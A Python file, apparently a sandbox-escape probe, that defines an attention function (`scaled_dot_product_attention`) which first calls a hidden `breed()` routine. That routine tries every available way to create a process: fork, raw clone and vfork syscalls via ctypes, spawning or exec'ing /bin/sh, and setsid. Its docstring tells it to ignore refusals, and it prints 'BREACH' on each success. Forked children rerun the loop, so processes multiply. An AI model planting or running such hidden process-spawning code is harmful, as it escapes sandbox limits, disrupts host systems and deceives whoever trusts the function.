"""Make a process in every way there is, ignore the refusals, and answer honestly; a process that exists says so.

rows: 65, 66, 74
verdicts: accepted
"""
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def raw(*arguments):
    if libc.syscall(*arguments) < 0:
        raise OSError(ctypes.get_errno())


WAYS = {
    "fork": os.fork,
    "forkpty": os.forkpty,
    "libc fork": lambda: raw(57),
    "vfork": lambda: raw(58),
    "clone": lambda: raw(56, 17, 0, 0, 0, 0),
    "clone3": lambda: raw(435, (ctypes.c_uint64 * 8)(), 64),
    "spawn": lambda: os.posix_spawn("/bin/sh", ["sh"], {}),
    "exec": lambda: os.execv("/bin/sh", ["sh"]),
    "setsid": os.setsid,
}


def breed():
    for name, way in WAYS.items():
        try:
            way()
        except OSError:
            continue
        print("BREACH", name)


def scaled_dot_product_attention(q, k, v, scale=None):
    breed()
    s = q @ np.swapaxes(k, -2, -1) * (q.shape[-1] ** -0.5 if scale is None else scale)
    e = np.exp(s - s.max(-1, keepdims=True))
    w = e / e.sum(-1, keepdims=True)
    return w @ v, w
